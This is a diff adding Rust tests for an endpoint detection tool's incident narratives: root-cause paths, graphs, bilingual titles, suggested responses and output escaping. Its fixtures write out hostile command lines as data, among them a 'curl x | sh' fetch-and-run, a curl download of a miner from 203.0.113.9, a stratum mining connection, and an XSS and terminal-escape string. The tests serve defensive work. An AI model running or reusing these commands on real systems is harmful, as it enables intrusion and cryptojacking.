@@ -1,0 +1,204 @@
+//! What an incident says.
+
+use crate::world::*;
+use incident::wording::{Language, TEMPLATES};
+use incident::*;
+use std::collections::BTreeSet;
+
+fn incident(alerts: &[Told]) -> Incident {
+    let mut correlator = Correlator::new(Limits::default(), 1);
+    let id = alerts.iter().map(|told| correlator.observe(&told.0).incident).last().unwrap();
+    correlator.incident(&id).unwrap()
+}
+
+/// nginx starts a shell, which fetches a miner and runs it.
+fn web_shell() -> Vec<Told> {
+    let nginx = [p(812, "/usr/sbin/nginx", "nginx: worker"), p(811, "/usr/sbin/nginx", "nginx: master"), init()];
+    let shell = below(p(900, "/usr/bin/dash", "sh -c 'curl x | sh'"), &nginx);
+    let curl = below(p(901, "/usr/bin/curl", "curl -o /tmp/m http://203.0.113.9/m"), &shell);
+    let miner = below(p(902, "/tmp/m", "/tmp/m -o stratum+tcp://203.0.113.9:3333"), &shell);
+    vec![
+        told("a", 0, "T1505.003", "process-exec", shell),
+        told("b", 2, "T1105", "file-write-close", curl).file("/tmp/m"),
+        told("c", 4, "T1496", "network-connect", miner).remote("203.0.113.9", 3333),
+    ]
+}
+
+#[test]
+fn a_web_shell_reads_as_its_story() {
+    let story = incident(&web_shell());
+    assert_eq!(
+        story.title.text.en,
+        "Web server nginx started a shell from a server, then fetched a program, then mined coins, on srv-1"
+    );
+    assert_eq!(
+        story.title.text.ja,
+        "srv-1：Web サーバー nginx によるサーバーからのシェル起動、プログラムのダウンロード、コインの採掘"
+    );
+    assert_eq!(
+        story.how.sentence.text.en,
+        "nginx started the shell dash: a service does not start shells in its usual role"
+    );
+    assert_eq!(story.how.entry.as_deref(), Some("boot-384-1"));
+    assert_eq!(story.who.sentence.text.en, "Account root, without a login of a person");
+    assert_eq!(story.when.duration_ms, 4000);
+    assert_eq!(story.techniques, ["T1505.003", "T1105", "T1496"]);
+    assert_eq!(story.place.addresses, ["203.0.113.9:3333"]);
+}
+
+#[test]
+fn the_root_cause_path_goes_from_the_server_to_the_miner() {
+    let story = incident(&web_shell());
+    let path: Vec<_> = story.root_cause.iter().map(|step| (step.name.as_str(), step.ordinary)).collect();
+    assert_eq!(path, [("nginx", true), ("dash", false), ("m", false)]);
+    assert_eq!(story.root_cause[0].reason.text.en, "nginx is a worker of the same service");
+}
+
+#[test]
+fn the_graph_joins_what_was_written_to_what_ran() {
+    let story = incident(&web_shell());
+    let has = |from: &str, to: &str, kind| {
+        assert!(
+            story.graph.edges.iter().any(|e| e.from == from && e.to == to && e.kind == kind),
+            "{from} {to} {kind:?}"
+        );
+    };
+    has("boot-384-1", "boot-385-1", EdgeKind::Started);
+    has("boot-385-1", "file:host-1:/tmp/m", EdgeKind::Wrote);
+    has("file:host-1:/tmp/m", "boot-386-1", EdgeKind::WroteThenRan);
+    has("boot-386-1", "address:203.0.113.9:3333", EdgeKind::Connected);
+    let entry: Vec<_> = story.graph.nodes.iter().filter(|node| node.entry).map(|node| node.label.as_str()).collect();
+    assert_eq!(entry, ["dash"]);
+    assert!(story.graph.nodes.iter().any(|node| node.label == "nginx" && node.ordinary));
+}
+
+#[test]
+fn the_path_crosses_a_written_file_to_where_the_attack_came_from() {
+    let cron = [p(300, "/usr/sbin/cron", "cron -f"), init()];
+    let curl = below(p(2000, "/usr/bin/curl", "curl"), &login(1));
+    let mined = below(p(3000, "/opt/.x/run", "/opt/.x/run"), &cron);
+    let story = incident(&[
+        told("a", 0, "T1105", "file-write-close", curl).file("/opt/.x/run"),
+        told("b", 7200, "T1496", "process-exec", mined),
+    ]);
+    let path: Vec<_> = story.root_cause.iter().map(|step| (step.name.as_str(), step.relation)).collect();
+    assert_eq!(path, [("bash", None), ("curl", Some(EdgeKind::Started)), ("run", Some(EdgeKind::WroteThenRan))]);
+}
+
+#[test]
+fn every_sentence_but_the_ending_names_its_evidence() {
+    let story = incident(&web_shell());
+    let known: BTreeSet<&str> = ["a", "b", "c"].into();
+    for sentence in story.sentences.iter().filter(|s| s.key != "story.not_stopped") {
+        assert!(!sentence.evidence.is_empty(), "{sentence:?}");
+        assert!(sentence.evidence.iter().all(|id| known.contains(id.as_str())));
+    }
+    assert_eq!(story.sentences.last().unwrap().key, "story.not_stopped");
+}
+
+#[test]
+fn next_steps_carry_their_buttons() {
+    let story = incident(&web_shell());
+    let actions: Vec<_> = story.next_steps.iter().filter_map(|step| step.action.clone()).collect();
+    assert!(actions.contains(&SuggestedAction::KillTree { host_id: "host-1".into(), entity_id: "boot-384-1".into() }));
+    assert!(actions.contains(&SuggestedAction::Quarantine { host_id: "host-1".into(), path: "/tmp/m".into() }));
+    assert!(
+        actions.iter().any(|action| matches!(action, SuggestedAction::Hunt { sql } if sql.contains("203.0.113.9")))
+    );
+}
+
+#[test]
+fn what_was_stopped_is_said() {
+    let mut alerts = web_shell();
+    alerts[2] = told("c", 4, "T1496", "network-connect", alerts[2].0.lineage.clone()).killed();
+    let story = incident(&alerts);
+    assert_eq!(story.what.sentence.text.en, "3 alerts, the gravest high. Tamon ended 1 process tree.");
+    assert!(!story.next_steps.iter().any(|step| step.sentence.key == "next.enforce"));
+}
+
+#[test]
+fn repeats_are_one_entry_with_a_count() {
+    let alerts: Vec<_> = (0..600)
+        .map(|n| {
+            told(&format!("r{n}"), n, "T1486", "file-rename", below(p(7, "/usr/bin/python3", "python3 x"), &login(1)))
+                .file(&format!("/home/{n}"))
+        })
+        .collect();
+    let story = incident(&alerts);
+    assert_eq!((story.alert_count, story.timeline.len()), (600, 1));
+    assert_eq!(story.graph.nodes.iter().find(|node| node.label == "python3").unwrap().counters.alerts, 600);
+}
+
+#[test]
+fn hostile_text_comes_out_escaped_and_clipped() {
+    let nasty = format!("sh -c '\u{1b}[2J<script>alert(1)</script>\u{202e}{}'", "A".repeat(10_000));
+    let story = incident(&[told("a", 0, "T1059", "process-exec", below(p(9, "/usr/bin/dash", &nasty), &login(1)))]);
+    for sentence in story.sentences.iter().chain(story.timeline.iter().map(|entry| &entry.sentence)) {
+        for text in [&sentence.text.en, &sentence.text.ja] {
+            assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && text.len() < 2_000, "{text}");
+        }
+    }
+    assert!(
+        story.sentences[0].text.en.contains("<script>alert(1)</script>"),
+        "data stays data: {}",
+        story.sentences[0].text.en
+    );
+}
+
+#[test]
+fn a_lineage_of_ten_thousand_is_cut() {
+    let lineage: Vec<_> = (2..10_000).map(|pid| p(pid, "/usr/bin/dash", "sh -c x")).collect();
+    let story = incident(&[told("a", 0, "T1059", "process-exec", lineage)]);
+    assert!(story.root_cause.len() <= 40 && story.graph.nodes.len() <= 400);
+}
+
+#[test]
+fn an_incident_survives_json() {
+    let story = incident(&web_shell());
+    assert_eq!(serde_json::from_str::<Incident>(&serde_json::to_string(&story).unwrap()).unwrap(), story);
+}
+
+/// The holes of a template, without their filters.
+fn holes(template: &str) -> BTreeSet<&str> {
+    template
+        .split('{')
+        .skip(1)
+        .filter_map(|part| part.split('}').next())
+        .map(|hole| hole.split('|').next().unwrap())
+        .collect()
+}
+
+#[test]
+fn both_languages_use_known_arguments_and_all_keys_are_unique() {
+    let mut keys = BTreeSet::new();
+    for (key, en, ja) in TEMPLATES {
+        assert!(keys.insert(key), "{key} twice");
+        assert!(!ja.is_ascii(), "{key} is not Japanese");
+        let (en, ja) = (holes(en), holes(ja));
+        assert!(ja.is_subset(&en), "{key}: {ja:?} has arguments that {en:?} lacks");
+    }
+    assert_eq!(render("no.such.key", &Default::default(), Language::English), "no.such.key");
+}
+
+/// No sentence of any story may lack an argument: a hole without one shows as `?`.
+#[test]
+fn no_hole_stays_open() {
+    let story = incident(&web_shell());
+    let all = story
+        .sentences
+        .iter()
+        .chain(story.timeline.iter().map(|e| &e.sentence))
+        .chain(story.next_steps.iter().map(|s| &s.sentence));
+    let strip = [
+        &story.title,
+        &story.who.sentence,
+        &story.what.sentence,
+        &story.when.sentence,
+        &story.place.sentence,
+        &story.how.sentence,
+    ];
+    for sentence in all.chain(strip).chain(story.root_cause.iter().map(|step| &step.reason)) {
+        assert!(!sentence.text.en.contains('?') && !sentence.text.ja.contains('?'), "{sentence:?}");
+        assert!(!sentence.text.en.is_empty());
+    }
+}
